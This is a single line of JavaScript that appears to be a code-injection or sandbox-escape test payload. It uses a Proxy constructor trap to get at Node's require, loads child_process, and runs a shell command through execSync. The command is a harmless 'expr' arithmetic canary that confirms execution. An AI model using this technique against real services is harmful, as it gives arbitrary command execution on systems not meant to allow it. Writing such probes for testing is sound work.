new (new Proxy(class{}, {construct:()=>({r:require})}))().r('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
